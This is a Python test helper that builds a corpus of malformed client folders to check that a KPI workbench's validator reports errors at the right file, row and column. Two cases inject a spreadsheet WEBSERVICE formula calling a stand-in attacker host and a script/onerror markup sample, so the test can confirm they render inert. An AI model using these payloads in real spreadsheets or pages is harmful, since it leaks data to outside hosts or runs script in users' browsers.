"""A corpus of hostile and odd clients, generated (no committed binaries), each with the located message the
workbench must give: ``python tests/hostile_corpus.py DEST`` writes it; ``make_corpus(dest)`` returns the cases.

Every case starts from a copy of a demo client (CSV: jinfeng-logistics, xlsx: huaxin-steel) and breaks one thing
the way a user, an export tool or an attacker would. ``Case.expect`` names where the first matching error must
point (file, row, column) and a fragment of what it says; ``None`` marks a client that is odd but valid, and must
build to a report that shows its text inert.
"""
from __future__ import annotations

import csv
import io
import shutil
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import yaml

ROOT = Path(__file__).resolve().parents[1]
DEMO = ROOT / "clients"
CSV_BASE = "jinfeng-logistics"
XLSX_BASE = "huaxin-steel"


@dataclass(frozen=True)
class Expect:
    file: str
    row: int | None = None
    column: str | None = None
    says: str = ""  # a fragment of the message or of the offending value


@dataclass(frozen=True)
class Case:
    id: str
    base: str
    why: str
    mutate: Callable[[Path], None]
    expect: Expect | None  # None: valid (odd but acceptable) client


# ------------------------------------------------------------------------------------------------ helpers
def _rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))


def _write_rows(path: Path, rows: list[list[str]], encoding: str = "utf-8") -> None:
    buf = io.StringIO(newline="")
    csv.writer(buf, lineterminator="\n").writerows(rows)
    path.write_bytes(buf.getvalue().encode(encoding))


def set_csv(table: str, row: int, column: str, value: str) -> Callable[[Path], None]:
    """Set the field of Excel-style ``row`` (header = 1) in ``column`` of ``<table>.csv``."""
    def mutate(folder: Path) -> None:
        p = folder / f"{table}.csv"
        rows = _rows(p)
        rows[row - 1][rows[0].index(column)] = value
        _write_rows(p, rows)
    return mutate


def set_xlsx(sheet: str, row: int, column: str, value: object) -> Callable[[Path], None]:
    def mutate(folder: Path) -> None:
        import openpyxl

        wb = openpyxl.load_workbook(folder / "intake.xlsx")
        ws = wb[sheet]
        col = next(c.column for c in ws[1] if str(c.value).strip().rstrip("*").strip().lower() == column)
        ws.cell(row, col).value = value
        wb.save(folder / "intake.xlsx")
    return mutate


def set_yaml(**changes: object) -> Callable[[Path], None]:
    def mutate(folder: Path) -> None:
        p = folder / "client.yaml"
        doc = yaml.safe_load(p.read_text(encoding="utf-8"))
        doc.update(changes)
        p.write_text(yaml.safe_dump(doc, allow_unicode=True), encoding="utf-8")
    return mutate


def write_file(name: str, data: bytes) -> Callable[[Path], None]:
    def mutate(folder: Path) -> None:
        (folder / name).write_bytes(data)
    return mutate


def reencode(table: str, encoding: str) -> Callable[[Path], None]:
    def mutate(folder: Path) -> None:
        p = folder / f"{table}.csv"
        p.write_bytes(p.read_text(encoding="utf-8").encode(encoding))
    return mutate


def header_only(table: str) -> Callable[[Path], None]:
    def mutate(folder: Path) -> None:
        p = folder / f"{table}.csv"
        p.write_text(p.read_text(encoding="utf-8").splitlines()[0] + "\n", encoding="utf-8")
    return mutate


def duplicate_first_row(table: str) -> Callable[[Path], None]:
    def mutate(folder: Path) -> None:
        p = folder / f"{table}.csv"
        rows = _rows(p)
        _write_rows(p, rows + [rows[1]])
    return mutate


def chain(*fns: Callable[[Path], None]) -> Callable[[Path], None]:
    def mutate(folder: Path) -> None:
        for fn in fns:
            fn(folder)
    return mutate


HOSTILE_TEXT = '=WEBSERVICE("http://evil.example/?"&A1)'
SCRIPT_TEXT = "<script>alert('x')</script><img src=x onerror=alert(1)>"

CASES: list[Case] = [
    Case("csv-bad-enum", CSV_BASE, "an unknown scoring method", set_csv("kpis", 2, "method", "bogus"),
         Expect("kpis.csv", 2, "method", "bogus")),
    Case("csv-text-in-number", CSV_BASE, "text where a number belongs", set_csv("kpis", 3, "target", "about ten"),
         Expect("kpis.csv", 3, "target", "about ten")),
    Case("csv-duplicate-id", CSV_BASE, "a KPI id twice", duplicate_first_row("kpis"), Expect("kpis.csv", None, "kpi_id", "J01")),
    Case("csv-unknown-parent", CSV_BASE, "a parent KPI that does not exist", set_csv("kpis", 3, "parent_kpi_id", "NOPE"),
         Expect("kpis.csv", 3, "parent_kpi_id", "NOPE")),
    Case("csv-gbk", CSV_BASE, "a GBK (ANSI) export", reencode("kpis", "gb18030"), Expect("kpis.csv", None, None, "UTF-8")),
    Case("csv-header-only", CSV_BASE, "the KPI table emptied, actuals left", header_only("kpis"),
         Expect("actuals.csv", 2, "kpi_id", "J01")),
    Case("csv-nul-bytes", CSV_BASE, "NUL bytes in a CSV", write_file("objectives.csv", b"objective_id,objective\n\x00\x00,\x00\n"),
         Expect("objectives.csv", None, None, "")),
    Case("csv-bad-date", CSV_BASE, "an impossible date", set_csv("actions", 2, "due", "2026-02-30"),
         Expect("actions.csv", 2, "due", "2026-02-30")),
    Case("yaml-broken", CSV_BASE, "client.yaml that is not YAML", write_file("client.yaml", b"id: [unclosed\nname: x: y\n"),
         Expect("client.yaml", None, None, "")),
    Case("yaml-wrong-id", CSV_BASE, "client.yaml naming another client", set_yaml(id="someone-else"),
         Expect("client.yaml", None, None, "someone-else")),
    Case("xlsx-not-a-workbook", XLSX_BASE, "a text file named intake.xlsx", write_file("intake.xlsx", b"kpi_id,kpi\nK1,x\n"),
         Expect("intake.xlsx", None, None, "")),
    Case("xlsx-text-weight", XLSX_BASE, "a weight typed as words", set_xlsx("kpis", 2, "weight", "twenty"),
         Expect("intake.xlsx", 2, "weight", "twenty")),
    Case("xlsx-formula-target", XLSX_BASE, "a live formula where a number belongs", set_xlsx("kpis", 2, "target", "=1/0"),
         Expect("intake.xlsx", 2, "target", "")),
    Case("xlsx-bad-method", XLSX_BASE, "an unknown method in the workbook", set_xlsx("kpis", 3, "method", "magic"),
         Expect("intake.xlsx", 3, "method", "magic")),
    # odd but valid: must build, with the text shown inert
    Case("csv-formula-text", CSV_BASE, "text that looks like a formula", set_csv("kpis", 2, "kpi", HOSTILE_TEXT), None),
    Case("xlsx-script-text", XLSX_BASE, "markup in a KPI name", set_xlsx("kpis", 2, "kpi", SCRIPT_TEXT), None),
]


def make_case(case: Case, dest: Path) -> Path:
    """Write ``case`` as ``dest/<case.id>/`` (client.yaml's id set to the folder name) and return the folder."""
    folder = dest / case.id
    if folder.exists():
        shutil.rmtree(folder)
    shutil.copytree(DEMO / case.base, folder, ignore=shutil.ignore_patterns("backups"))
    p = folder / "client.yaml"
    doc = yaml.safe_load(p.read_text(encoding="utf-8"))
    doc["id"] = case.id
    p.write_text(yaml.safe_dump(doc, allow_unicode=True), encoding="utf-8")
    case.mutate(folder)
    return folder


def make_corpus(dest: Path, cases: list[Case] | None = None) -> list[tuple[Case, Path]]:
    dest.mkdir(parents=True, exist_ok=True)
    return [(c, make_case(c, dest)) for c in (cases or CASES)]


def matches(issue: object, expect: Expect) -> bool:
    """True when a validation issue points where ``expect`` says (file, row, column) and says what it says."""
    if getattr(issue, "file", None) != expect.file:
        return False
    if expect.row is not None and getattr(issue, "row", None) != expect.row:
        return False
    if expect.column is not None and getattr(issue, "column", None) != expect.column:
        return False
    text = f"{getattr(issue, 'message', '')} {getattr(issue, 'value', '')!s}"
    return expect.says in text


if __name__ == "__main__":  # pragma: no cover - a helper for people probing by hand
    out = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-clients")
    for case, folder in make_corpus(out):
        print(f"{folder}  {case.why}  -> {case.expect or 'valid'}")
